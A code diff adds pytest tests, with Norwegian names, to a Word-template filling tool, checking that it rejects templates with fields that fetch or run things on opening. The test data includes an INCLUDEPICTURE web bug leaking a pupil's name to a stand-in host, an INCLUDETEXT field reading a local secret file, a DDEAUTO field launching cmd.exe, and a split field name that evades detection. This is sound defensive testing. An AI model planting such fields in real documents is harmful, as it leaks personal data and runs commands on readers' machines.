@@ -390,6 +390,116 @@ def test_en_fiendtlig_mal_blir_avvist_og_gjor_ingenting(
     assert HEMMELIG not in sjekk.output + lag.output
 
 
+# A web bug: Word fetches the picture when the document is opened, with the name in the address.
+_BILDEFELT = 'INCLUDEPICTURE "http://example.invalid/{{ elev_navn }}.png" \\d'
+
+
+def _felt(p, instruks: str, *, enkelt: bool) -> None:
+    """Add a field with `instruks` to the paragraph `p`: simple, or in three runs."""
+    if enkelt:
+        felt = OxmlElement("w:fldSimple")
+        felt.set(qn("w:instr"), instruks)
+        p._p.append(felt)
+        return
+    for art, tekst in (("begin", None), (None, instruks[:9]), (None, instruks[9:]), ("end", None)):
+        run = OxmlElement("w:r")
+        if art:
+            tegn = OxmlElement("w:fldChar")
+            tegn.set(qn("w:fldCharType"), art)
+            run.append(tegn)
+        else:
+            instr = OxmlElement("w:instrText")
+            instr.text = tekst
+            run.append(instr)
+        p._p.append(run)
+
+
+@pytest.mark.parametrize(
+    ("instruks", "enkelt", "hva"),
+    [
+        (_BILDEFELT, True, "INCLUDEPICTURE"),
+        (_BILDEFELT, False, "INCLUDEPICTURE"),
+        (' INCLUDETEXT "{hemmelig}" ', False, "INCLUDETEXT"),
+        ('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"', True, "DDEAUTO"),
+    ],
+)
+def test_en_mal_som_henter_noe_utenfra_blir_avvist(
+    tmp_path: Path, oppsett: tuple[Path, Path, Path], instruks: str, enkelt: bool, hva: str
+) -> None:
+    enkel, _, innstillinger = oppsett
+    doc = Document(str(maler_mappe() / "plan.docx"))
+    p = doc.add_paragraph("Elev: ")
+    _felt(p, instruks.replace("{hemmelig}", str(tmp_path / "hemmelig.txt")), enkelt=enkelt)
+    mal = tmp_path / "felt.docx"
+    doc.save(mal)
+    for_ = _alle_filer(tmp_path)
+
+    sjekk = _kjor("sjekk-mal", mal)
+    assert sjekk.exit_code == 1, sjekk.output
+    assert f"FEIL – Malen: Malen har feltet {hva}, som får dokumentene til å hente noe" in (
+        sjekk.output
+    )
+    lag = _kjor("lag", enkel, "--mal", f"plan={mal}", "--ut", tmp_path / "ut", "--innstillinger",
+                innstillinger)  # fmt: skip
+    assert lag.exit_code == 1, lag.output
+    assert f"{NEKTET}: den får dokumentene til å hente noe utenfra når de åpnes (feltet {hva})" in (
+        lag.output
+    )
+    assert _alle_filer(tmp_path) == for_
+    assert HEMMELIG not in sjekk.output + lag.output
+
+
+@pytest.mark.parametrize("enkelt", [True, False])
+def test_et_felt_som_malens_kode_lager_blir_avvist_i_det_ferdige_dokumentet(
+    tmp_path: Path, oppsett: tuple[Path, Path, Path], enkelt: bool
+) -> None:
+    enkel, _, innstillinger = oppsett
+    doc = Document(str(maler_mappe() / "plan.docx"))
+    p = doc.add_paragraph("Elev: ")
+    # The template shows no INCLUDEPICTURE: its code writes one when it is filled in.
+    kode = "{{ 'INCLUDE' ~ 'PICTURE' }} \"http://example.invalid/{{ elev_navn }}\""
+    _felt(p, " " * 9 + kode, enkelt=enkelt)
+    mal = tmp_path / "laget felt.docx"
+    doc.save(mal)
+    for_ = _alle_filer(tmp_path)
+
+    sjekk = _kjor("sjekk-mal", mal)
+    assert sjekk.exit_code == 1, sjekk.output
+    assert "FEIL – Brødtekst: Malen «laget felt.docx» " + NEKTET in sjekk.output
+    assert "den får dokumentene til å hente noe utenfra når de åpnes (feltet INCLUDEPICTURE)" in (
+        sjekk.output
+    )
+    lag = _kjor("lag", enkel, "--mal", f"plan={mal}", "--ut", tmp_path / "ut", "--innstillinger",
+                innstillinger)  # fmt: skip
+    assert lag.exit_code == 1, lag.output
+    assert "(feltet INCLUDEPICTURE), og det kan sende opplysninger om eleven ut (i dokumentet)" in (
+        lag.output
+    )
+    assert _alle_filer(tmp_path) == for_
+
+
+def test_en_lenket_logo_blir_avvist(tmp_path: Path, oppsett: tuple[Path, Path, Path]) -> None:
+    mal = _mal(tmp_path, "{{ elev_navn }}", bunntekst=False)
+    with zipfile.ZipFile(mal) as z:
+        deler = {n: z.read(n) for n in z.namelist()}
+    deler["word/_rels/document.xml.rels"] = deler["word/_rels/document.xml.rels"].replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdLenke" Type="http://schemas.openxmlformats.org/officeDocument/'
+        b'2006/relationships/image" Target="http://example.invalid/logo.png" '
+        b'TargetMode="External"/></Relationships>',
+    )
+    with zipfile.ZipFile(mal, "w", zipfile.ZIP_DEFLATED) as z:
+        for navn, innhold in deler.items():
+            z.writestr(navn, innhold)
+    sjekk = _kjor("sjekk-mal", mal)
+    assert sjekk.exit_code == 1
+    assert "Malen har en kobling til «http://example.invalid/logo.png»" in sjekk.output
+    lag = _kjor("lag", oppsett[0], "--mal", f"plan={mal}", "--ut", tmp_path / "ut")
+    assert lag.exit_code == 1
+    assert "(en kobling til «http://example.invalid/logo.png»)" in lag.output
+    assert not (tmp_path / "ut").exists()
+
+
 def test_tilfellene_er_mange_nok_og_dekker_utsagnene() -> None:
     navn = " ".join(t.navn + t.kode for t in TILFELLER)
     assert len(TILFELLER) >= 20
